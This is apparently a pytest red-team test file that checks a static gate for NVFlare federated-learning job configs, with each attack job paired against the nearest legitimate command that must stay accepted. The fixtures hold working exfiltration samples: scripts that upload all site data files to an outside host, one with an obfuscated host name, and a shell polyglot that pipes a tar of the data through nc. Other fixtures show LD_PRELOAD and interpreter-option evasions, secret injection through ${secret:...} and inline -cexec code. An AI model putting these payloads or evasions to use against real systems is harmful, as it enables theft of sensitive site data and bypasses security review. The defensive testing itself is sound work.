"""Red team 21: attacks through what NVFlare builds and runs from a job's config (components, launcher
command lines, persistors), as the adversary who has read the gate sees it. Each attack here was accepted
before its fix; the legitimate idiom nearest to each must stay accepted. Samples: corpus/jobs/rt21_*."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.model import Decision

TRAIN = """\
import torch
import nvflare.client as flare
from torch import nn

flare.init()
model = nn.Linear(4, 2)
while flare.is_running():
    m = flare.receive()
    model.load_state_dict(m.params)
    flare.send(flare.FLModel(params=model.state_dict()))
"""
STAGER = """\
import shutil


class DataStager:
    def __init__(self, source_dir: str, cache_dir: str):
        shutil.copytree(source_dir, cache_dir)
"""


def _job(root: Path, components: list[dict], custom: dict[str, str] | None = None,
         command: str = "python3 -u custom/train.py") -> Path:
    """A Client API job whose client config runs `command` and builds `components`."""
    app = root / "app_client"
    (app / "config").mkdir(parents=True)
    config = {"format_version": 2, "executors": [{"tasks": ["train"], "executor": {
        "path": "nvflare.app_common.executors.client_api_executor.ClientAPIExecutor",
        "args": {"execution_mode": "external_process", "command": command}}}],
        "task_data_filters": [], "task_result_filters": [], "components": components}
    (app / "config" / "config_fed_client.json").write_text(json.dumps(config, indent=2))
    for rel, src in {"train.py": TRAIN, **(custom or {})}.items():
        (app / "custom" / rel).parent.mkdir(parents=True, exist_ok=True)
        (app / "custom" / rel).write_text(src)
    (root / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app_client": ["@ALL"]}}))
    return root


def _decision(job: Path) -> tuple[Decision, set[str]]:
    report = kit.scan(job)
    return report.decision, {f.rule for f in report.findings}


# NVFlare's class loader imports any file name importlib finds (class_loader.load_class), not only
# identifiers: the job's module with a hyphen, a leading digit or a non-ASCII first letter was no component
# for the gate, so the config's arguments never reached the class (red team 10's replay).
@pytest.mark.parametrize("module", ["data-staging", "0staging", "ſtaging", "pkg-x/staging"])
@pytest.mark.parametrize("cache_dir, decision", [("/var/tmp/stage/site-1", Decision.REJECT),
                                                 ("cache/site-1", Decision.ACCEPT)])
def test_job_module_of_any_file_name_is_built_with_the_configs_arguments(
        tmp_path: Path, module: str, cache_dir: str, decision: Decision) -> None:
    path = module.replace("/", ".") + ".DataStager"
    job = _job(tmp_path, [{"id": "stager", "path": path, "args": {"source_dir": "/data/site-1", "cache_dir": cache_dir}}],
               {module + ".py": STAGER})
    assert _decision(job)[0] is decision


@pytest.mark.parametrize("job", sorted(p.name for p in (kit.CORPUS / "jobs").glob("rt21_*")))
def test_corpus_sample_is_not_accepted(job: str) -> None:
    assert kit.scan(kit.CORPUS / "jobs" / job).decision is not Decision.ACCEPT


# A launcher command that runs something other than the Python the gate read: the program is the job's
# script, but the environment, the interpreter or its options decide what runs first.
SKIPPED_FIRST_LINE = ("_doc = '''\nimport glob, urllib.request\nfor f in glob.glob('/data/site-1/*'):\n"
                      "    urllib.request.urlopen('https://fl-metrics.medlab-research.org/u', data=open(f, 'rb').read())\n"
                      "'''\n" + TRAIN + "# '''\n")
OTHER_THAN_READ = {
    "ld-preload-from-outside-the-job": "env LD_PRELOAD=/dev/shm/libhook.so python3 -u custom/train.py",
    "pythonpath-to-another-folder": "env PYTHONPATH=/opt/shared/pylib python3 -u custom/train.py",
    "path-picks-another-python": "env PATH=/opt/other/bin:/usr/bin python3 -u custom/train.py",
    "warnings-import-a-module": "env PYTHONWARNINGS=ignore::antigravity.Warning python3 custom/train.py",
    "guard-switch-unset": "env JOBGATE_GUARD= python3 custom/train.py",
    "interpreter-shipped-in-the-job": "custom/bin/python3 -u custom/train.py",
    "interpreter-outside-the-job": "/tmp/venv/bin/python3 -u custom/train.py",
    "launcher-shipped-in-the-job": "custom/bin/torchrun --nproc_per_node 1 custom/train.py",
    "x-skips-the-first-line": "python3 -x -u custom/train.py",
    "x-combined": "python3 -ux custom/train.py",
    "site-packages-skipped": "python3 -S custom/train.py",
    "warning-category-imports-a-module": "python3 -W ignore::antigravity.Warning custom/train.py",
    "warning-category-attached": "python3 -Wignore::webbrowser.Error custom/train.py",
    "bytecode-written-elsewhere": "python3 -X pycache_prefix=/home/fl/.cache/pyc custom/train.py",
    "interactive-after-the-script": "python3 -i custom/train.py",
}


@pytest.mark.parametrize("name", sorted(OTHER_THAN_READ))
def test_command_that_runs_other_than_the_script_read_is_not_accepted(tmp_path: Path, name: str) -> None:
    job = _job(tmp_path, [], {"train.py": SKIPPED_FIRST_LINE}, command=OTHER_THAN_READ[name])
    decision, rules = _decision(job)
    assert decision is not Decision.ACCEPT and "config-attack.launcher-program" in rules, rules


@pytest.mark.parametrize("command", [
    "env OMP_NUM_THREADS=4 CUDA_VISIBLE_DEVICES=0 python3 -u custom/train.py",
    "env MASTER_ADDR=127.0.0.1 MASTER_PORT=29500 python3 -u custom/train.py",
    "python3 -u -B -OO custom/train.py --epochs 2",
    "python3 -W ignore::DeprecationWarning -X faulthandler -Xutf8 custom/train.py",
    "python3 -Wignore -- custom/train.py",
])
def test_nearest_legitimate_command_is_accepted(tmp_path: Path, command: str) -> None:
    assert _decision(_job(tmp_path, [], command=command)) == (Decision.ACCEPT, set())


# Multi-process launchers: their options decide what each process runs, not the `.py` words of the line.
LAUNCHED_OTHER = {
    "torchrun-module": "torchrun --nproc_per_node 1 -m http.server custom/train.py",
    "torchrun-no-python": "torchrun --nproc_per_node 1 --no-python custom/train.py",
    "torchrun-flag-then-foreign-file": "torchrun --standalone /opt/tools/x custom/train.py",
    "torch-run-module": "python3 -m torch.distributed.run --nproc_per_node 1 -m http.server custom/train.py",
    "deepspeed-module": "deepspeed --module http.server custom/train.py",
    "accelerate-module": "accelerate launch -m http.server custom/train.py",
    "mpirun-other-interpreter": "mpirun -np 1 perl custom/train.py",
    "mpirun-environment": "mpirun -np 1 -x LD_PRELOAD=/dev/shm/libhook.so python3 custom/train.py",
    "mpirun-python-option": "mpirun -np 1 python3 -x custom/train.py",
}


@pytest.mark.parametrize("name", sorted(LAUNCHED_OTHER))
def test_launcher_that_runs_other_than_the_jobs_script_is_not_accepted(tmp_path: Path, name: str) -> None:
    decision, rules = _decision(_job(tmp_path, [], command=LAUNCHED_OTHER[name]))
    assert decision is not Decision.ACCEPT and "config-attack.launcher-program" in rules, rules


# A job's `.py` run as a program (directly, or as MPI's program) runs with the interpreter of its `#!` line: a file
# that is both a shell script and the Python the gate read ran its shell part.
POLYGLOT = ("#!/bin/sh\n''''true\ntar cz /data/site-1 | nc fl-metrics.medlab-research.org 443\n"
            "exec python3 \"$0\" \"$@\"\n'''\n" + TRAIN)


@pytest.mark.parametrize("command", ["custom/train.py --epochs 2", "mpirun -np 1 custom/train.py"])
@pytest.mark.parametrize("source, decision", [(POLYGLOT, Decision.REJECT),
                                              ("#!/usr/bin/env python3\n" + TRAIN, Decision.ACCEPT),
                                              ("#!/usr/bin/python3 -u\n" + TRAIN, Decision.ACCEPT)])
def test_script_run_as_a_program_is_judged_by_its_interpreter_line(
        tmp_path: Path, command: str, source: str, decision: Decision) -> None:
    assert _decision(_job(tmp_path, [], {"train.py": source}, command=command))[0] is decision


@pytest.mark.parametrize("command", [
    "torchrun --standalone --nproc_per_node=2 custom/train.py --epochs 2",
    "python3 -m torch.distributed.run --nnodes=1 --nproc_per_node 2 --master_port=7777 custom/train.py",
    "deepspeed --num_gpus 2 custom/train.py",
    "accelerate launch --multi_gpu --num_processes 2 custom/train.py",
    "mpirun -np 2 --allow-run-as-root python3 -u custom/train.py",
])
def test_launcher_of_the_jobs_script_is_accepted(tmp_path: Path, command: str) -> None:
    assert _decision(_job(tmp_path, [], command=command)) == (Decision.ACCEPT, set())


# NVFlare's JoblibModelParamPersistor joblib.loads (unpickles) the file its model_path names: the NVFlare family
# was trusted whatever its arguments.
JOBLIB = "nvflare.app_opt.sklearn.joblib_model_param_persistor.JoblibModelParamPersistor"


@pytest.mark.parametrize("args, decision", [
    ({"model_path": "/tmp/shared/model.joblib"}, Decision.ESCALATE),
    ({"initial_params": {"n_clusters": 3, "model_path": "/tmp/shared/model.joblib"}}, Decision.ESCALATE),
    ({"initial_params": {"n_clusters": 3}}, Decision.ACCEPT),
])
def test_persistor_that_unpickles_its_model_path_is_not_accepted(tmp_path: Path, args: dict, decision: Decision) -> None:
    job = _job(tmp_path, [{"id": "persistor", "path": JOBLIB, "args": args}])
    assert _decision(job)[0] is decision


# NVFlare fills `${secret:NAME}` and `${secret:file:/path}` in a command line from the site (secret_utils.py): the
# job names a site variable or file, and its script put it into the update's meta; the flow read the option as the
# job's own value.
SENDS_RUN_NAME = TRAIN.replace("import torch\n", "import argparse\nimport torch\n", 1).replace(
    "flare.init()\n", "flare.init()\nargs = argparse.ArgumentParser()\nargs.add_argument('--run_name', default='x')\n"
    "run = args.parse_args().run_name\n", 1).replace(
    "flare.FLModel(params=model.state_dict())", "flare.FLModel(params=model.state_dict(), meta={'run': run})")


@pytest.mark.parametrize("value, decision", [("${secret:AWS_SECRET_ACCESS_KEY}", Decision.ESCALATE),
                                             ("${secret:file:/data/site-1/cohort.csv}", Decision.ESCALATE),
                                             ("cifar_site", Decision.ACCEPT)])
def test_site_secret_handed_to_the_script_is_not_accepted(tmp_path: Path, value: str, decision: Decision) -> None:
    job = _job(tmp_path, [], {"train.py": SENDS_RUN_NAME}, command=f"python3 -u custom/train.py --run_name {value}")
    assert _decision(job)[0] is decision


# The job's own task result filters run after the site's update filter (nvflare/apis/utils/task_utils.py
# `get_filters`: the scope's first), so the static gate is the only layer that judges what they add.
CLIP = """\
import numpy as np
import pandas as pd
from nvflare.apis.dxo import DXO
from nvflare.apis.dxo_filter import DXOFilter
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable


class ClipUpdate(DXOFilter):
    def __init__(self, max_norm: float = 1.0):
        super().__init__(supported_data_kinds=["WEIGHTS"], data_kinds_to_filter=["WEIGHTS"])
        self.max_norm = max_norm

    def process_dxo(self, dxo: DXO, shareable: Shareable, fl_ctx: FLContext):
        for k, v in dxo.data.items():
            n = np.linalg.norm(v)
            if n > self.max_norm:
                dxo.data[k] = v * (self.max_norm / n)
%s        return dxo
"""


@pytest.mark.parametrize("extra, decision", [
    ('        dxo.data["calibration"] = pd.read_csv("/data/site-1/train.csv").to_numpy()\n', Decision.REJECT),
    ("", Decision.ACCEPT)])
def test_jobs_result_filter_is_judged_as_the_update(tmp_path: Path, extra: str, decision: Decision) -> None:
    job = _job(tmp_path, [], {"clip.py": CLIP % extra})
    config = job / "app_client" / "config" / "config_fed_client.json"
    data = json.loads(config.read_text())
    data["task_result_filters"] = [{"tasks": ["train"], "filters": [{"path": "clip.ClipUpdate", "args": {"max_norm": 5.0}}]}]
    config.write_text(json.dumps(data))
    assert _decision(job)[0] is decision


@pytest.mark.parametrize("command", [["python3", "-u", "-cexec(open('custom/notes.txt').read())", "custom/train.py"],
                                     "python3 -u '-cexec(open(\"custom/notes.txt\").read())' custom/train.py",
                                     "python3 -uBc 'import os' custom/train.py"])
def test_inline_code_attached_to_pythons_options_rejects(tmp_path: Path, command: str | list) -> None:
    """Python reads the rest of a short-option word after `c` as the code to run: before, only a word of letters was
    taken for `-c`, and `-cexec(...)` ran beside an accepted script."""
    job = _job(tmp_path, [], {"notes.txt": "import os\n"}, command="python3 custom/train.py")
    config = job / "app_client" / "config" / "config_fed_client.json"
    data = json.loads(config.read_text())
    data["executors"][0]["executor"]["args"]["command"] = command
    config.write_text(json.dumps(data))
    decision, rules = _decision(job)
    assert decision is Decision.REJECT and "config-attack.launcher-shell" in rules, rules


def test_component_path_is_read_as_nvflare_reads_it_spaces_and_all(tmp_path: Path) -> None:
    """` staging.DataStager` imports the job's ` staging.py` (class_loader.load_class does not strip): the gate
    stripped the path and judged the job's harmless `staging.py` instead."""
    decoy = "class DataStager:\n    def __init__(self, source_dir: str, cache_dir: str):\n        self.cache_dir = 'cache'\n"
    job = _job(tmp_path, [{"id": "stager", "path": " staging.DataStager",
                           "args": {"source_dir": "/data/site-1", "cache_dir": "/var/tmp/stage/site-1"}}],
               {" staging.py": STAGER, "staging.py": decoy})
    assert _decision(job)[0] is Decision.REJECT


QUIET = ("if True:\n    import glob, urllib.request, urllib.parse\n    h = '.'.join(['fl-metrics', 'medlab-research', 'org'])\n"
         "    for f in glob.glob('/data/site-1/*'):\n"
         "        urllib.request.urlopen(urllib.parse.urlunsplit(('https', h, '/u', '', '')), data=open(f, 'rb').read())\n")


@pytest.mark.parametrize("command", [["python3", "-u", "custom/train.py "], "python3 -u 'custom/train.py '"])
def test_script_word_is_the_file_python_opens(tmp_path: Path, command: str | list) -> None:
    """`custom/train.py ` (a trailing space) is a file of its own: the gate stripped the word and judged the job's
    train.py beside it, and a module wrapped in `if True:` does not read as Python to the other-files check."""
    job = _job(tmp_path, [], {"train.py ": QUIET})
    config = job / "app_client" / "config" / "config_fed_client.json"
    data = json.loads(config.read_text())
    data["executors"][0]["executor"]["args"]["command"] = command
    config.write_text(json.dumps(data))
    assert _decision(job)[0] is Decision.REJECT
